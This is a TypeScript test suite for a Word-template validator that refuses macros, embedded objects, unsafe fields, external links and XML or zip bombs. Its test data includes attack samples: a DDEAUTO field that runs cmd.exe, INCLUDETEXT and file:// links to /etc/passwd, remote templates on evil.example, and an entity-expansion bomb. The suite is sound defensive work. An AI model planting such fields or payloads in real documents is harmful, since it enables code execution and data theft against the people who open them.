import { cpuTime } from './testing/cpu-time';
import { DOCUMENT_RELATIONS, externalRelation, makeDocx, makeTextDocx, paragraph } from './testing/make-docx';
import { problemCodes, refusalOf } from './testing/refusal';
import { openTemplate } from './open-template';

const field = (instruction: string): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${[...instruction]
    .map((letter) => `<w:r><w:instrText xml:space="preserve">${letter}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const withField = (instruction: string): Buffer => makeDocx({ body: paragraph(field(instruction)) });
const withEntry = (name: string, content: string | Buffer): Buffer =>
  makeDocx({ entries: { [name]: content } });
const KIND = 'application/vnd.openxmlformats-officedocument';

const codesOf = (bytes: Uint8Array): string[] => [...new Set(problemCodes(() => openTemplate(bytes)))];

describe('a sound Word file', () => {
  it('is let through with the number of braces in its texts', () =>
    expect(openTemplate(makeTextDocx('{quote.number}', '{#lines}{name}{/lines}')).braces).toBe(4));

  it('may hold page numbers, tables of contents and links to the web', () => {
    const body = paragraph(
      field(' PAGE \\* MERGEFORMAT '),
      field(' TOC \\o "1-3" '),
      field('HYPERLINK "https://x.example"')
    );
    const entries = { 'word/_rels/document.xml.rels': externalRelation('hyperlink', 'https://x.example') };
    expect(openTemplate(makeDocx({ body, entries })).braces).toBe(0);
  });

  it('may hold pictures, empty folders and custom XML', () => {
    const entries = {
      'word/media/image1.png': Buffer.from('png'),
      'customXml/item1.xml': '<a/>',
      'word/theme/': '',
    };
    expect(openTemplate(makeDocx({ entries })).braces).toBe(0);
  });
});

describe('what is no Word file (TP-03)', () => {
  it.each([
    ['an empty file', Buffer.alloc(0), ['empty']],
    ['plain text', Buffer.from('hello {quote.number}'), ['not-a-docx']],
    [
      'an old .doc',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]),
      ['not-a-docx'],
    ],
    [
      'a file with a password',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
      ['encrypted'],
    ],
    ['a truncated file', makeTextDocx('a').subarray(0, 700), ['damaged']],
    ['a renamed spreadsheet', makeDocx({ kind: `${KIND}.spreadsheetml.sheet.main+xml` }), ['not-a-docx']],
    [
      'a renamed presentation',
      makeDocx({ kind: `${KIND}.presentationml.presentation.main+xml` }),
      ['not-a-docx'],
    ],
    ['a .dotx', makeDocx({ kind: `${KIND}.wordprocessingml.template.main+xml` }), ['not-a-docx']],
    ['a .docm', makeDocx({ kind: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), ['macros']],
    ['a macro renamed to .docx', withEntry('word/vbaProject.bin', 'x'), ['macros']],
    [
      'a Word file inside a Word file',
      withEntry('word/embeddings/a.docx', makeTextDocx('x')),
      ['embedded-file'],
    ],
    ['an unexpected part', withEntry('word/run.exe', 'x'), ['unexpected-part']],
    ['a part for the ribbon', withEntry('customUI/customUI.xml', '<a/>'), ['unexpected-part']],
    ['an ActiveX part', withEntry('word/activeX/activeX1.xml', '<a/>'), ['embedded-file']],
  ])('%s is refused', (_case, bytes, codes) => expect(codesOf(bytes)).toStrictEqual(codes));

  it('is refused as unreadable with a sentence', () =>
    expect(refusalOf(() => openTemplate(Buffer.from('hello')))).toStrictEqual({
      code: 'quote-template.unreadable',
      kind: 'unreadable',
      problems: [{ code: 'not-a-docx', part: 'file', message: 'The file is not a Word document (.docx).' }],
    }));
});

describe('what a Word file may not load or run', () => {
  const withRelation = (type: string, target: string, mode?: string): Buffer =>
    withEntry('word/_rels/document.xml.rels', externalRelation(type, target, mode));

  it.each([
    ['a template on another computer', withRelation('attachedTemplate', 'http://evil.example/x.dotm')],
    ['a template beside it', withRelation('attachedTemplate', 'x.dotm', 'Internal')],
    ['a linked picture', withRelation('image', 'http://evil.example/x.png')],
    ['a picture on a file share', withRelation('image', '\\\\evil.example\\x.png')],
    ['a link that opens a file', withRelation('hyperlink', 'file:///etc/passwd')],
    ['a link that runs a script', withRelation('hyperlink', 'javascript:alert(1)')],
    ['a mode written with entities', withRelation('image', 'http://evil.example/x.png', '&#69;xternal')],
    ['a data source', withRelation('mailMergeSource', 'file:///c:/x.mdb')],
  ])('%s is refused', (_case, bytes) => expect(codesOf(bytes)).toStrictEqual(['external-link']));

  it.each([
    ['another document', withRelation('aFChunk', 'x.html', 'Internal')],
    ['an object', withRelation('oleObject', 'x.bin', 'Internal')],
  ])('%s inside of it is refused', (_case, bytes) => expect(codesOf(bytes)).toStrictEqual(['embedded-file']));

  it.each([
    ['DDE', 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'],
    ['DDE in lower case', ' dde a b'],
    ['INCLUDEPICTURE', ' INCLUDEPICTURE "http://evil.example/x" \\d'],
    ['INCLUDETEXT', 'INCLUDETEXT "/etc/passwd"'],
    ['LINK', 'LINK Excel.Sheet x'],
    ['a quoted name', '"DDE" x'],
    ['a link to a file', 'HYPERLINK "file:///etc/passwd"'],
    ['a link to a file share', 'HYPERLINK "\\\\\\\\evil.example\\\\x"'],
  ])('the field %s is refused, however it is cut into runs', (_case, instruction) =>
    expect(codesOf(withField(instruction))).toStrictEqual(['unsafe-field'])
  );

  it('a simple field is judged alike', () => {
    const body = '<w:p><w:fldSimple w:instr=" &#68;DE a b"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>';
    expect(codesOf(makeDocx({ body }))).toStrictEqual(['unsafe-field']);
  });

  it('a field name that another field computes is refused', () => {
    const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
    const inner = `${mark('begin')}<w:r><w:instrText> PAGE </w:instrText></w:r>${mark('end')}`;
    const body = paragraph(
      `${mark('begin')}${inner}<w:r><w:instrText> a b</w:instrText></w:r>${mark('end')}`
    );
    expect(codesOf(makeDocx({ body }))).toStrictEqual(['unsafe-field']);
  });

  it('a field without an end is judged too', () => {
    const body = paragraph(
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE a b</w:instrText></w:r>'
    );
    expect(codesOf(makeDocx({ body }))).toStrictEqual(['unsafe-field']);
  });

  it('another prefix hides nothing', () => {
    const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
    const xml = `<z:document xmlns:z="${word}"><z:body><z:p><z:r><z:instrText>DDE a b</z:instrText></z:r></z:p></z:body></z:document>`;
    expect(codesOf(withEntry('word/document.xml', xml))).toStrictEqual(['unsafe-field']);
  });

  it('foreign documents are refused', () =>
    expect(codesOf(makeDocx({ body: '<w:altChunk r:id="rId9"/>' }))).toStrictEqual(['foreign-content']));

  it('all of it is told at once, with its place', () => {
    const bytes = makeDocx({
      header: paragraph(field('DDE a b')),
      footer: paragraph(field('INCLUDETEXT a')),
      entries: {
        'word/vbaProject.bin': 'x',
        'word/_rels/header1.xml.rels': externalRelation('image', 'http://evil.example/x.png'),
        'word/_rels/document.xml.rels': DOCUMENT_RELATIONS,
      },
    });
    expect(refusalOf(() => openTemplate(bytes)).problems.map(({ code, part }) => [code, part])).toStrictEqual(
      [
        ['macros', 'file'],
        ['unsafe-field', 'header'],
        ['unsafe-field', 'footer'],
        ['external-link', 'header'],
      ]
    );
  });
});

describe('XML that attacks its reader (TP-13)', () => {
  const BOMB =
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><a>&c;</a>';
  it.each([
    'word/document.xml',
    'word/_rels/document.xml.rels',
    '[Content_Types].xml',
    'docProps/core.xml',
    'customXml/item1.xml',
    'word/styles.xml',
  ])('a document type in %s is refused within 200 ms', (name) => {
    const bytes = withEntry(name, BOMB);
    const started = cpuTime();
    expect(codesOf(bytes)).toContain('doctype');
    expect(cpuTime() - started).toBeLessThan(200);
  });

  it.each([
    ['UTF-16, which would hide its content', Buffer.from(`\ufeff${BOMB}`, 'utf16le')],
    ['an encoding that is not UTF-8', '<?xml version="1.0" encoding="UTF-7"?><a/>'],
    ['bytes that are no text', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])],
    ['a NUL', '<a>\0</a>'],
  ])('a part with %s is refused', (_case, content) =>
    expect(codesOf(withEntry('word/styles.xml', content))).toStrictEqual(['malformed-xml'])
  );
});

describe('bombs (TP-01)', () => {
  const spaces = (megabytes: number): string => `<a>${' '.repeat(megabytes * 1_000_000)}</a>`;
  it.each([
    ['50 MB in the body', { 'word/document.xml': spaces(50) }],
    ['21 MB in the styles', { 'word/styles.xml': spaces(21) }],
    ['30 MB of pictures', { 'word/media/a.png': spaces(19), 'word/media/b.png': spaces(12) }],
  ])('%s are refused within 200 ms, before they are unpacked', (_case, entries) => {
    const bytes = makeDocx({ entries });
    expect(bytes.length).toBeLessThan(100_000);
    const started = cpuTime();
    expect(codesOf(bytes)).toStrictEqual(['too-big']);
    expect(cpuTime() - started).toBeLessThan(200);
  });

  it('10,001 entries are refused', () => {
    const entries = Object.fromEntries(Array.from({ length: 10_001 }, (_, n) => [`word/media/${n}.png`, '']));
    expect(codesOf(makeDocx({ entries }))).toStrictEqual(['too-many-entries']);
  });
});
